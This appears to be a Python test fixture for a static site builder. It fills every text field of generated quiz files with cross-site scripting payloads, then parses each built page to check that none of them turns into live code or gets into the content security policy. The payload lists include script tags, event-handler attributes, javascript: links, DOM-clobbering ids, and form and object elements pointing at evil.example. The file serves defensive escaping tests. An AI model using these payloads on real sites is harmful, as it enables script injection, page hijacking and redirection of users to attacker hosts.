"""A site whose quiz files carry attacks in every text field, and the checks every page of it must pass.

Plain lines (titles, labels, descriptions) get payloads that break out of HTML text, attributes and `<title>`;
Markdown fields get raw HTML that runs script, clobbers the page's own objects or sends the reader elsewhere.
A payload that runs calls `PWN()`.
"""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser
from pathlib import Path

import yaml
from sitebuilder import ROOT, make_project

PLAIN = [
    "Check<script>PWN()</script>",
    '"><img src=x onerror=PWN()>',
    "' onmouseover='PWN()' x='",
    "</title><script>PWN()</script>",
    'Check {: onclick="PWN()" }',
    "</article><script>PWN()</script>",
    "<style>body{display:none}</style>",
    "*bold* [link](javascript:PWN()) {#closer-config}",
]
MARKDOWN = [
    "<script>PWN()</script>",
    '<img src="x" onerror="PWN()">',
    '<a href="javascript:PWN()">link</a>',
    "[link](javascript:PWN())",
    '<div id="closer-config">{"progress": "https://evil.example/"}</div>',
    '<b id="__config">{}</b> <i id="quiz-form">x</i>',
    '<span name="addEventListener">x</span> <a name="querySelector">y</a>',
    "<style>*{display:none}</style>",
    '<iframe srcdoc="&lt;script&gt;PWN()&lt;/script&gt;"></iframe>',
    '<svg onload="PWN()"><circle r="1"/></svg>',
    '*word*{: onclick="PWN()" }',
    '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
    '<details open ontoggle="PWN()"><summary>x</summary>y</details>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
]
COUNT = max(len(PLAIN), len(MARKDOWN))
NAV = """\
nav:
  - Home: index.md
  - Lesson one: lessons/one.md
  - Lesson two: lessons/two.md
  - My progress: progress.md
  - My journal: journal/index.md
  - Get help: get-help.md
  - For facilitators:
      - Guide: facilitators/index.md
      - facilitators/session-1.md
"""
# Every quiz is the same but for its attacks, and CSS payloads hold "none": the checks of how questions are written
# would report that; the checks of single questions still read every attack.
CLOSER = ("{quizzes: {checks: {near-duplicate: false, absolute-words: false, position-cue: false, "
          "true-false-balance: false, answer-pattern: false}}}")
HOOKS = ["glossary", "external_links"]


def _knowledge_check(n: int, plain: str, md: str) -> dict[str, object]:
    return {
        "title": f"Check {n} {plain}",
        "type": "knowledge-check",
        "lesson": "lessons/one.md",
        "description": f"A check {n} {plain}",
        "intro": f"Intro {md}\n\nMore intro.",
        "outro": f"Outro {md}",
        "questions": [
            {"id": "pick", "type": "single", "prompt": f"Pick one {md}", "choices": [
                {"text": f"Right {md}", "correct": True},
                {"text": f"Wrong {md}", "feedback": f"Feedback {md}"},
            ], "explanation": f"Because {md}\n\nAnd more."},
            {"id": "several", "type": "multiple", "prompt": "Pick several", "choices": [
                {"text": "One", "correct": True}, {"text": "Two", "correct": True}, {"text": f"Three {md}"},
            ], "explanation": "Both."},
            {"id": "yes-no", "type": "true-false", "prompt": f"True? {md}", "answer": True,
             "feedback_false": f"No {md}", "explanation": f"Yes {md}"},
            {"id": "think", "type": "reflection", "prompt": f"Think {md}", "hint": f"Hint {md}"},
        ],
    }


def _self_assessment(n: int, plain: str, md: str) -> dict[str, object]:
    return {
        "title": f"Assess {n} {plain}",
        "type": "self-assessment",
        "lesson": "lessons/two.md",
        "description": f"An assessment {n} {plain}",
        "intro": f"Intro {md}",
        "scale": [{"value": 1, "label": f"No {plain}"}, {"value": 2, "label": "Maybe"}, {"value": 3, "label": "Yes"}],
        "items": [
            {"id": "first", "text": f"First {md}", "subscale": "part", "note": f"Note {md}"},
            {"id": "second", "text": "Second", "reverse": True, "subscale": "part"},
        ],
        "bands": [
            {"min": 1.0, "max": 1.9, "title": f"Low {plain}", "text": f"Low {md}", "read_next": ["lessons/one.md"]},
            {"min": 2.0, "max": 3.0, "title": "High", "text": "High."},
        ],
        "subscales": [{"id": "part", "title": f"Part {plain}", "bands": [
            {"min": 1.0, "max": 3.0, "title": f"Any {plain}", "text": f"Any {md}"},
        ]}],
        "safety": {"prompt": f"Afraid? {md}", "help": f"Help {md}"},
        "outro": f"Outro {md}",
    }


def make_hostile_project(tmp: Path, config_extra: str = "") -> Path:
    """Write the project to `tmp` and return its mkdocs.yml."""
    quizzes = {}
    for n in range(COUNT):
        plain, md = PLAIN[n % len(PLAIN)], MARKDOWN[n % len(MARKDOWN)]
        quizzes[f"check-{n}.yml"] = yaml.safe_dump(_knowledge_check(n, plain, md), allow_unicode=True)
        quizzes[f"assess-{n}.yml"] = yaml.safe_dump(_self_assessment(n, plain, md), allow_unicode=True)
    hooks = [f"{ROOT.as_posix()}/hooks/{name}.py" for name in HOOKS]
    config = make_project(tmp, quizzes, fixture_quizzes=False, config_extra=f"hooks: {hooks}\n{NAV}{config_extra}",
                          closer=CLOSER)
    facilitators = tmp / "docs" / "facilitators"
    facilitators.mkdir(parents=True, exist_ok=True)
    (facilitators / "index.md").write_text("# Guide\n\nHow to run it.\n", encoding="utf-8")
    (facilitators / "session-1.md").write_text(
        "# Session 1\n\nOpen [the first check](../quizzes/check-0.md) and [the other](../quizzes/assess-1.md).\n",
        encoding="utf-8")
    (tmp / "docs" / "get-help.md").write_text("# Get help\n\nWhere lessons send readers.\n", encoding="utf-8")
    return config


def built_pages(site: Path) -> list[str]:
    """Every HTML page of a built site, as paths relative to it."""
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))


def expected_pages() -> list[str]:
    """The pages the hostile project builds, known before it is built (tests are made per page)."""
    fixed = ["index.html", "404.html", "lessons/one/index.html", "lessons/two/index.html", "progress/index.html",
             "journal/index.html", "get-help/index.html", "facilitators/index.html",
             "facilitators/session-1/index.html", "facilitators/links/index.html",
             "facilitators/links/session-1/index.html", "facilitators/answer-key/index.html",
             "facilitators/pack/index.html"]
    quizzes = [f"quizzes/{kind}-{n}/index.html" for n in range(COUNT) for kind in ("check", "assess")]
    return sorted(fixed + quizzes)


_OURS = re.compile(r"assets/(javascripts/(bundle\.[0-9a-f]+\.min|closer|reader|storage|workers/[\w.]+)|quiz/quiz)\.js$")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[str] = []
        self.ids: dict[str, int] = {}
        self.policy = ""
        self._in: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in {"href", "src", "action", "data", "srcdoc", "formaction"} and re.match(r"\s*javascript:", value,
                                                                                               re.I):
                self.problems.append(f"<{tag} {name}={value}>")
            if name == "name" and value in {"addEventListener", "querySelector"}:
                self.problems.append(f"<{tag} name={value}>")
        if tag in {"iframe", "object", "embed", "base", "frame"}:
            self.problems.append(f"<{tag}>")
        if tag == "form" and "action" in values:
            self.problems.append(f"<form action={values['action']}>")
        if tag == "script" and "src" in values and not _OURS.search(values["src"]):
            self.problems.append(f"<script src={values['src']}>")
        if tag == "meta" and values.get("http-equiv") == "Content-Security-Policy":
            self.policy = values.get("content", "")
        if "id" in values:
            self.ids[values["id"]] = self.ids.get(values["id"], 0) + 1
        self._in = tag if tag in {"script", "style", "title"} and "src" not in values else None

    def handle_endtag(self, tag: str) -> None:
        self._in = None

    def handle_data(self, data: str) -> None:
        if self._in == "script":
            self.scripts.append(data)
        if self._in in {"script", "style"} and ("PWN" in data or ("display:none}" in data.replace(" ", "")
                                                and "quiz-js" not in data)):
            self.problems.append(f"<{self._in}>{data[:60]}")


def page_problems(html: str) -> list[str]:
    """Return what in a built page shows that author text became code, clobbered the page, or got into the CSP."""
    found = _Collector()
    found.feed(html)
    problems = list(found.problems)
    problems += [f"id {name} appears {count} times" for name, count in found.ids.items()
                 if count > 1 and (name.startswith(("__", "closer-", "quiz-")))]
    allowed = set(re.findall(r"'sha256-[^']+'", found.policy))
    for script in found.scripts:
        digest = "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"
        if "PWN" in script and digest in allowed:
            problems.append(f"the policy allows author script {script[:60]}")
    if "<title>" in html and not re.search(r"<title>[^<]*</title>", html):
        problems.append("the <title> element holds markup")
    return problems
